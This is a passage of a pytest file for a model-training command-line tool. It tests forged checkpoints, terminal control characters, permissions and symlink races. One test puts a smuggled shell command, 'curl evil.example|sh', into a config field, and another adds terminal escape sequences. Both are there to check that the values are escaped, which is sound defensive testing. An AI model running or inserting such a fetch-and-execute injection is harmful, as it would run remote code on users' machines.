    assert line.endswith(f' in {checkpoints(program.out)[0]}: restore config.json, or start a new run')


def forge(path, run=None, **config):
    """Write a checkpoint with some entries of its metadata replaced, and a valid checksum."""
    record, arrays = checkpoint.read(path)
    metadata = record.pop('metadata')
    metadata = {**metadata, 'config': {**metadata['config'], **config}, 'run': {**metadata['run'], **(run or {})}}
    checkpoint.write(path, checkpoint.Snapshot(arrays, record), metadata)


@pytest.mark.parametrize('change, words', [
    ({'num_steps': 10**13}, 'num_steps, num_batches, epoch_length or rows of its state is missing or malformed'),
    ({'num_steps': 5}, 'with another number of batches than 4'), ({'history': []}, 'with another number of batches'),
    ({'epoch_length': 3}, 'with another number of batches than 4'), ({'history': 1}, 'its history is not a list')])
def test_a_forged_checkpoint_is_not_resumed(change, words, program):
    """It is named, and nothing is written; `num_steps` of 10**13 would take years."""
    program.start('--num-epochs', 1)
    path, = checkpoints(program.out)
    forge(path, change)
    forged = path.rename(path.with_name(f'checkpoint-{change.get("num_steps", 4):08}.safetensors'))
    line = error_of(program, '--resume', program.out, '--num-epochs', 2)
    assert line.startswith(f'scratch: {forged} is ') and words in line


def test_predict_and_export_refuse_forged_checkpoints(program):
    program.start('--num-epochs', 1)
    path, = checkpoints(program.out)
    for change in ({'devices': None}, {'num_epochs': 'x'}, {'run': {'loss': None}}, {'dataset': []}):
        before = path.read_bytes()
        forge(path, **change)
        for chapter in (predict, export):
            assert f'{path}: must be from a run of scratch or concise; ' in error_of(program, path, chapter=chapter)
        path.write_bytes(before)


def test_a_chapter_that_is_not_known_is_not_printed_as_a_command(program):
    program.start('--num-epochs', 1)
    evil = 'scratch; curl evil.example|sh #\x1b]0;x\x07'
    (program.out / 'config.json').write_text(json.dumps({**program.config(), 'chapter': evil}))
    forge(checkpoints(program.out)[0], chapter=evil)
    line = error_of(program, '--resume', program.out)
    assert line == f'scratch: {program.out} is a run of {evil!r}: must be of scratch or concise'


def test_control_characters_in_the_files_of_a_run(program, tmp_path):
    """From config.json and names of folders, in messages and among the changes."""
    program.out = tmp_path / 'a\x1b[31mb'
    program.start('--num-epochs', 1)
    config = {**program.config(), 'platform': '\x1b]0;title\x07', 'numpy': '\x9b31m', 'data_dir': '\x1b[2J'}
    config['process'] = {**config['process'], 'host': '\x1b[5m', 'since': '\x07'}
    (program.out / 'config.json').write_text(json.dumps(config))
    printed = [*program('--resume', program.out), *program('--resume', program.out, '--data-dir', 'data'),
               *program(program.out, chapter=predict), *program(program.out, chapter=export)]
    with contextlib.ExitStack() as stack:
        lock_folder(program.out, stack)
        (program.out / 'config.json').write_text(json.dumps(config))
        printed += program('--resume', program.out)
    text = ''.join(map(str, printed))
    assert not re.search('[\x00-\x09\x0b-\x1f\x7f-\x9f]', text)
    for name in (r'a\x1b[31mb', r'\x1b]0;title\x07 ', r'\x9b31m', r'\x1b[2J', r'\x1b[5m'):
        assert name.strip() in text, name


def test_a_private_run_stays_private(program):
    program.start('--num-epochs', 1)
    for path in program.out.iterdir():
        path.chmod(0o600)
    assert program('--resume', program.out, '--num-epochs', 2)[0] == 0
    for name in ('config.json', 'history.csv'):
        assert (program.out / name).stat().st_mode & 0o777 == 0o600


class ReplaceByLink(Callback):
    """Callback that replaces the folder of a run by a link to another folder after the first epoch."""

    def __init__(self, folder, other):
        self.folder, self.other = folder, other

    def epoch_end(self, run):
        if not self.folder.is_symlink():
            self.folder.rename(f'{self.folder}-moved')
            self.folder.symlink_to(self.other)


def test_nothing_is_written_into_a_folder_that_has_replaced_that_of_the_run(program, tmp_path):
    """Neither checkpoints, nor the model of --export."""
    other = tmp_path / 'other'
    other.mkdir()
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr('gluon_mgpu.settings.cli.Job._callbacks', lambda job: [ReplaceByLink(program.out, other)])
        status, _, err = program.start('--num-epochs', 2, '--keep-best', '--export', program.out / 'a.onnx')
    assert status == 2 and [*other.iterdir()] == []
    problem = 'it was replaced by another folder'
    assert err.splitlines()[-1].startswith(f'scratch: cannot write {program.out}/a.onnx ({problem})')


@pytest.mark.parametrize('resumed', [True, False])
def test_a_folder_that_is_replaced_right_after_it_was_locked(resumed, program, tmp_path):
    other = tmp_path / 'other'
    other.mkdir()
    if resumed:
        program.start('--num-epochs', 1)

    def lock_and_replace(folder, stack):
        locked = lock_folder(folder, stack)
        ReplaceByLink(program.out, other).epoch_end(None)
        return locked

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr('gluon_mgpu.checkpoints.run_folder.lock_folder', lock_and_replace)
        flags = ['--resume', program.out] if resumed else []
        assert (program(*flags) if resumed else program.start('--num-epochs', 1))[0] == 2
    assert [*other.iterdir()] == []


def test_the_folder_of_the_model_vanishes_in_training(program, tmp_path):
    class Vanish(Callback):
        def epoch_trained(self, run):
            (tmp_path / 'models').rmdir()

    (tmp_path / 'models').mkdir()
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr('gluon_mgpu.settings.cli.Job._callbacks', lambda job: [Vanish()])
        status, _, err = program.start('--num-epochs', 1, '--export', 'models/a.onnx')
    assert (status, err) == (2, 'scratch: cannot write models/a.onnx (No such file or directory); the run is complete; '
                             f'export it with: python -m gluon_mgpu export {checkpoints(program.out)[0]} --out '
                             'models/a.onnx\n')


def test_a_checkpoint_that_is_one_step_newer_is_noticed(program):
    program.start('--num-epochs', 1, '--checkpoint-every', 1)
    newer, older = checkpoints(program.out)
    assert f'{newer.name} is newer and would be lost' in error_of(program, '--resume', older)


def test_a_model_in_a_folder_with_a_longer_name_is_elsewhere(program, tmp_path):
    model = tmp_path / 'run-models/a.onnx'
    model.parent.mkdir()
    program.start('--num-epochs', 1, '--export', model)
    before = model.read_bytes()
    status, _, err = program('--resume', program.out, '--num-epochs', 2)
    assert (status, model.read_bytes()) == (0, before) and 'the model will not be exported to ' in err
    assert not (program.out / 'a.onnx').exists()
